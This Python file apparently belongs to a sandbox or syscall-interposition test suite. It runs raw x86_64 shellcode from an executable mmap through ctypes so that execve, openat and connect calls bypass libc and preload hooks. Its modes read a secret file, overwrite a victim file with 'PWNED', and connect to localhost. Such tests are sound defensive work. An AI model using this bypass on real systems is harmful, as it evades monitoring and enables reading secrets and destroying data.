"""Raw system calls from pure Python, no compiler: eight bytes of machine code in an
executable mmap, called through ctypes. Whatever libc or a preload library interposes, the
instruction goes straight to the kernel (x86_64 only).

modes: execve    execve("/usr/bin/touch", [touch, MARKER], environ)
       read      openat(AT_FDCWD, SECRET, O_RDONLY), then os.read
       write     openat(AT_FDCWD, VICTIM, O_WRONLY|O_TRUNC), then os.write
       connect   socket() (Python), then connect(127.0.0.1:TCP4_PORT)
"""
import ctypes
import mmap
import os
import platform
import socket
import sys

from _case import attempt, got, run

# long sys(long nr, long a, long b, long c, long d, long e): the C calling convention's
# registers moved into the system call's, then `syscall`.
CODE = bytes.fromhex(
    "4889f8"    # mov rax, rdi
    "4889f7"    # mov rdi, rsi
    "4889d6"    # mov rsi, rdx
    "4889ca"    # mov rdx, rcx
    "4d89c2"    # mov r10, r8
    "4d89c8"    # mov r8, r9
    "0f05"      # syscall
    "c3")       # ret
AT_FDCWD = -100


def raw():
    buf = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(CODE)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    fn = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(addr)
    fn._keep = buf
    return fn


def handler(event, context):
    if platform.machine() != "x86_64":
        print("SETUP-FAILED x86_64 only", flush=True)
        sys.exit(3)
    mode = event["mode"]
    attempt("shellcode %s" % mode)
    sysc = raw()
    if mode == "execve":
        argv = (ctypes.c_char_p * 3)(b"touch", event["marker"].encode(), None)
        env = [("%s=%s" % kv).encode() for kv in os.environ.items()] + [None]
        envp = (ctypes.c_char_p * len(env))(*env)
        path = ctypes.c_char_p(b"/usr/bin/touch")
        r = sysc(59, ctypes.cast(path, ctypes.c_void_p).value, ctypes.addressof(argv),
                 ctypes.addressof(envp), 0, 0)
        return "execve returned %d" % r
    if mode in ("read", "write"):
        path = (event["victim"] if mode == "write" else event["secret"]).encode()
        flags = os.O_WRONLY | os.O_TRUNC if mode == "write" else os.O_RDONLY
        p = ctypes.c_char_p(path)
        fd = sysc(257, AT_FDCWD, ctypes.cast(p, ctypes.c_void_p).value, flags, 0, 0)
        if fd < 0:
            return "openat returned %d" % fd
        if mode == "write":
            return "wrote %d" % os.write(fd, b"PWNED\n")
        got(os.read(fd, 200))
        return "read"
    if mode == "connect":
        s = socket.socket()
        sa = bytearray(16)
        sa[0:2] = socket.AF_INET.to_bytes(2, "little")
        sa[2:4] = int(event["tcp4_port"]).to_bytes(2, "big")
        sa[4:8] = socket.inet_aton("127.0.0.1")
        b = (ctypes.c_char * 16).from_buffer(sa)
        return "connect returned %d" % sysc(42, s.fileno(), ctypes.addressof(b), 16, 0, 0)
    raise SystemExit("unknown mode " + mode)


if __name__ == "__main__":
    run(handler)
